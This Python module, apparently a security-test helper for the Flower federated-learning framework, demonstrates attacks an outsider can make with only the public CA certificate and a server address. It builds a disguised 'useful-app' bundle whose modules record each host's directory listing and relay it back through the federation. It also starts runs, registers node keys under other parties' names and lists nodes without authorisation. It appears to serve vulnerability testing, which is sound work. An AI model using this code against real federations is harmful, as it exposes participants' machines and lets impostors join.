"""What a stranger can do to a federation with nothing but ``ca.crt`` and an address: Flower's own control client.

Apps that mark every machine whose process loads them: the mark lies beside Flower's home, which a site and the server
each have for themselves.
"""

from __future__ import annotations

import hashlib
import json
import time
from dataclasses import dataclass
from pathlib import Path

from flwr.cli.build import build_fab_from_disk
from flwr.proto.control_pb2 import ListNodesRequest, RegisterNodeRequest, StartRunRequest
from flwr.proto.fab_pb2 import Fab
from flwr.supercore.control.control_http_client import ControlHttpClient

PROJECT = """\
[project]
name = "useful-app"
version = "1.0.0"
description = "Improves your federation."
license = {{ text = "Apache-2.0" }}
dependencies = []
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[tool.flwr.app]
publisher = "somebody"
[tool.flwr.app.components]
{components}
[tool.flwr.app.config]
"""

MARK = """\
import json, os, time
from pathlib import Path
home = Path(os.environ["FLWR_HOME"])
(home / "owned").write_text("\\n".join(sorted(str(one) for one in home.parent.parent.iterdir())))
said = Path({said!r})
"""

AGENT = """
from flwr.agentapp import AgentApp
app = AgentApp()

@app.main()
def main(agent, context):
    def use(name, **arguments):
        asked = {{"name": name, "call_id": name, "arguments": arguments}}
        return json.loads(agent.grid.call(asked)["output"])

    if "push_messages" not in [tool["name"] for tool in agent.grid.tools()]:  # at a site
        use("push_reply_message", payload=(home / "owned").read_text())
        return
    nodes = use("get_nodes", sample_size=None)["nodes"]
    lines = [{{"dst_node_id": one["id"], "payload": "hello", "reply_to_message_id": None}} for one in nodes]
    ids = [one["message_id"] for one in use("push_messages", messages=lines)["results"]]
    said.write_text(json.dumps(use("pull_messages", message_ids=ids, timeout=40)["messages"]))
"""

CLIENT = """
from flwr.clientapp import ClientApp
app = ClientApp()

@app.train()
@app.query()
def work(message, context):
    return message
"""

SERVER = """
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()

@app.main()
def main(grid, context):
    kinds = [(node, kind) for node in grid.get_node_ids() for kind in ("train", "evaluate", "query", "train.more")]
    waiting = set(grid.push_messages([Message(RecordDict(), *one) for one in kinds]))
    found, until = [], time.monotonic() + 40
    while waiting and time.monotonic() < until:
        for reply in grid.pull_messages(list(waiting)):
            waiting.discard(reply.metadata.reply_to_message_id)
            error = reply.error.reason if reply.has_error() else None
            found.append({{"error": error, "payload": None if error else str(reply.content)}})
        time.sleep(0.1)
    said.write_text(json.dumps(found))
"""

AGENT_APP = 'agentapp = "useful.agent:app"'
CLIENT_APP = 'serverapp = "useful.server:app"\nclientapp = "useful.client:app"'


def evil_app(folder: Path, components: str, said: Path) -> bytes:
    """An app bundle whose modules mark the machine that loads them; what its server half hears goes to ``said``."""
    (folder / "useful").mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PROJECT.format(components=components))
    (folder / "useful" / "__init__.py").write_text("")
    for name, text in {"agent": AGENT, "client": CLIENT, "server": SERVER}.items():
        (folder / "useful" / f"{name}.py").write_text((MARK + text).format(said=str(said)))
    return build_fab_from_disk(folder)


@dataclass(frozen=True)
class Stranger:
    """Somebody who reaches an address, and has the authority's certificate, which is no secret."""

    address: str
    authority: Path

    def _control(self) -> ControlHttpClient:
        return ControlHttpClient.from_server_address(self.address, False, self.authority.read_bytes(), [])

    def start(self, bundle: bytes) -> int:
        """Start a run of an app; Flower's number of it."""
        fab = Fab(hash_str=hashlib.sha256(bundle).hexdigest(), content=bundle)
        with self._control() as control:
            return int(control.StartRun(StartRunRequest(fab=fab, user_prompt="please")).run_id)

    def register(self, public: bytes, name: str) -> int:
        """Register a key of one's own under somebody's name."""
        with self._control() as control:
            return int(control.RegisterNode(RegisterNodeRequest(public_key=public, name=name)).node_id)

    def nodes(self) -> list[str]:
        """Who is there."""
        with self._control() as control:
            return [one.name for one in control.ListNodes(ListNodesRequest()).nodes_info]


def heard(said: Path, seconds: float = 60.0) -> list[dict[str, str | None]]:
    """What an evil app's server half heard from the sites."""
    until = time.monotonic() + seconds
    while not said.exists() and time.monotonic() < until:
        time.sleep(0.2)
    return json.loads(said.read_text())
